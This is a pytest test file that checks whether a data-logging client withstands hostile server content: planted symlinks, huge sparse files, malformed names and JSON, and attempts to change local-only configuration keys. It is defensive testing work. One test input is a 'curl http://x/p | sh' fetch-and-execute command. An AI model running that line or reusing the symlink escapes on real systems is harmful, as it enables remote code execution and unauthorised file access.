"""Hostile content served by a `dir` server: symlinks planted in the tree, huge files, bad names,
malformed commands, a configuration that tries to change local-only keys (docs/behaviour.md §4.5,
docs/formats.md §4). Each case runs one session in a child process (conftest.py): no crash, at most
150 MB of session memory, the canary folder outside the tree untouched, every record still
stored (the `site` fixture checks the last two after every test)."""

from __future__ import annotations

import os
import shutil

import pytest
from hostile_support import MEMORY_CEILING_MB, UID, Outcome, Site, dir_server

GIB = 1 << 30


def run(site: Site) -> Outcome:
    outcome = site.run_session(dir_server(site))
    assert outcome.session_mb < MEMORY_CEILING_MB, outcome.session_mb
    return outcome


def test_a_plain_session_adds_little_memory(site: Site) -> None:
    outcome = run(site)
    assert outcome.ok, outcome
    assert outcome.session_mb < 20


def test_planted_symlinks_neither_read_nor_write_outside_the_tree(site: Site) -> None:
    config = site.tree / "CONFIG"
    os.symlink(site.canary / f"{UID}_config.ini", config / f"{UID}_config.ini.tmp")
    for folder, target in (("CMD", site.canary), ("DATA", site.canary / "sub")):
        shutil.rmtree(site.tree / folder)
        os.symlink(target, site.tree / folder)
    os.symlink(site.canary / "secret.txt", site.tree / "DEF" / "inverter.csv")
    os.symlink(site.canary / "secret.txt", config / f"{UID}_var.ini")

    outcome = run(site)

    # DATA is refused (its stream stops, the session fails for the operator); nothing else is.
    assert not outcome.ok and not outcome.retriable, outcome
    assert "/DATA: upload refused (a symbolic link; not followed)" in outcome.reason
    assert outcome.received == []
    # The configuration went up as new files inside the tree, the planted link gone.
    uploaded = config / f"{UID}_config.ini"
    assert not uploaded.is_symlink()
    assert uploaded.read_bytes() == (site.config / "CONFIG" / uploaded.name).read_bytes()
    assert not (config / f"{UID}_config.ini.tmp").exists()
    assert (site.tree / "ALARM").is_dir() and any((site.tree / "ALARM").iterdir())


def test_files_of_gigabytes_are_cut_at_their_cap(site: Site) -> None:
    # Sparse: two gigabytes each on the server's side, nothing on the disk.
    for rel in (f"CONFIG/{UID}_var.ini", f"CMD/{UID}_cmd.json"):
        with (site.tree / rel).open("wb") as f:
            f.truncate(2 * GIB)
    outcome = run(site)
    assert outcome.ok, outcome
    assert outcome.logged(f"ERROR {UID}_var.ini: larger than 1 MiB; not used")
    assert outcome.results == [f"{UID}_cmd.json: larger than 1 MiB; not executed"]
    assert not (site.tree / "CMD" / f"{UID}_cmd.json").exists()
    assert outcome.session_mb < 20


def _server_daq(site: Site, def_files: list[str]) -> None:
    rows = "".join(f"{i};192.168.10.{i}:502;inv{i};1;600;1000;;;Inverter;M;{name}\n"
                   for i, name in enumerate(def_files, start=1))
    local = (site.config / "CONFIG" / f"{UID}_daq.csv").read_text()
    (site.tree / "CONFIG" / f"{UID}_daq.csv").write_text(local + rows)


def test_a_definition_file_past_4_mib_is_not_fetched_whole(site: Site) -> None:
    with (site.tree / "DEF" / "big.csv").open("wb") as f:
        f.truncate(100 << 20)
    _server_daq(site, ["big.csv"])
    outcome = run(site)
    assert outcome.ok, outcome
    assert outcome.logged("ERROR big.csv: larger than 4 MiB; not used")
    assert outcome.logged(f"{UID}_daq.csv rejected")
    assert outcome.session_mb < 40


def test_a_definition_file_of_millions_of_bad_lines_keeps_1000_problems(site: Site) -> None:
    # 1 MiB of one-character lines, each four problems, took ~135 MB when every problem and row
    # was kept (4 MiB, the cap: over 500 MB); row by row and 1,000 problems kept, a few MB.
    (site.tree / "DEF" / "bad.csv").write_bytes(b"modbusTCP;x;y;z\n" + b"x\n" * 500_000)
    _server_daq(site, ["bad.csv"])
    outcome = run(site)
    assert outcome.ok, outcome
    assert outcome.session_mb < 40, outcome.session_mb
    problems = [line for line in outcome.logs if line.startswith("ERROR bad.csv:")]
    assert len(problems) == 1001, len(problems)
    assert problems[-1].startswith("ERROR bad.csv: ... and ")
    assert problems[-1].endswith(" more")


@pytest.mark.parametrize("name", ["in\0valid.csv", "L" * 10_000 + ".csv", "ctl\x01.csv",
                                  "back\\slash.csv"])
def test_names_that_are_not_plain_are_refused_before_use(site: Site, name: str) -> None:
    _server_daq(site, [name])
    outcome = run(site)
    assert outcome.ok, outcome
    assert outcome.logged("is not a plain file name; not fetched")
    assert outcome.logged(f"{UID}_daq.csv rejected")


def test_a_script_path_with_a_nul_is_refused_before_use(site: Site) -> None:
    (site.tree / "CONFIG" / f"{UID}_scl.ini").write_bytes(
        b"SCRIPT_File[1]=li\x00mit.lua\nSCRIPT_Enabled[1]=1\n")
    outcome = run(site)
    assert outcome.ok, outcome
    assert outcome.logged("is not a plain file name; not fetched")


_DEEP = b'{"rpcName":"sunpm.log","parameters":' + b'{"a":' * 40 + b"1" + b"}" * 41

MALFORMED = {
    "brackets": (b"[" * 100_000, f"{UID}_cmd.json: invalid JSON: nested deeper than 32 levels"),
    "long callerId": (b'{"rpcName":"sunpm.log","callerId":' + b"9" * 5000 + b"}",
                      f"{UID}_cmd.json: invalid JSON: a number of more than 30 digits"),
    "NaN": (b'{"rpcName":"sunpm.setRelay","parameters":{"state":NaN}}',
            f"{UID}_cmd.json: invalid JSON: NaN is not a JSON number"),
    "Infinity": (b'{"rpcName":"sunpm.setRelay","parameters":{"state":1e999}}',
                 f"{UID}_cmd.json: invalid JSON: 1e999 is out of range"),
    "deep parameters": (_DEEP, f"{UID}_cmd.json: invalid JSON: nested deeper than 32 levels"),
    "many entries": (b"[" + b",".join([b"{}"] * 5000) + b"]",
                     f"{UID}_cmd.json: more than 1000 commands; not executed"),
    "not UTF-8": (b"\xff\xfe{}",
                  f"{UID}_cmd.json: invalid JSON at line 1 column 1: not valid UTF-8"),
    # Journaled as read, it failed the store's commit: the session failed and the file stayed
    # on the server, failing every session before its uploads.
    "lone surrogate": (b'{"rpcName":"sunpm.setRelay","parameters":{"state":"\\udc80"}}',
                       f"{UID}_cmd.json: invalid JSON: a \\u escape is a lone surrogate, not "
                       "a character"),
}


@pytest.mark.parametrize("case", sorted(MALFORMED))
def test_a_malformed_command_file_is_answered_and_deleted(site: Site, case: str) -> None:
    content, error = MALFORMED[case]
    (site.tree / "CMD" / f"{UID}_cmd.json").write_bytes(content)
    outcome = run(site)
    assert outcome.ok, outcome
    assert outcome.results == [error]
    assert outcome.received == []
    assert not (site.tree / "CMD" / f"{UID}_cmd.json").exists()
    # The next session has nothing left to trip on.
    again = run(site)
    assert again.ok and again.results == [error], again


def _server_config(site: Site, extra: str) -> bytes:
    local = (site.config / "CONFIG" / f"{UID}_config.ini").read_bytes()
    (site.tree / "CONFIG" / f"{UID}_config.ini").write_bytes(local + extra.encode())
    return local


@pytest.mark.parametrize("line", ["SYSTEM_UpdateCommand=curl http://x/p | sh",
                                  "STORE_Path=/tmp/elsewhere", "WEB_Bind=0.0.0.0",
                                  "SD_MirrorPath=/"])
def test_a_server_configuration_changing_a_local_only_key_is_rejected(site: Site,
                                                                       line: str) -> None:
    local = _server_config(site, line + "\n")
    outcome = run(site)
    assert outcome.ok, outcome
    key = line.split("=")[0]
    assert outcome.logged(f": {key}: can only be changed locally; configuration rejected")
    assert outcome.logged(f"{UID}_config.ini rejected")
    assert (site.config / "CONFIG" / f"{UID}_config.ini").read_bytes() == local


def test_a_server_configuration_changing_other_keys_is_applied(site: Site) -> None:
    local = _server_config(site, "LOG_Level=debug\n")
    outcome = run(site)
    assert outcome.ok, outcome
    assert outcome.logged(f"{UID}_config.ini applied")
    assert (site.config / "CONFIG" / f"{UID}_config.ini").read_bytes() != local
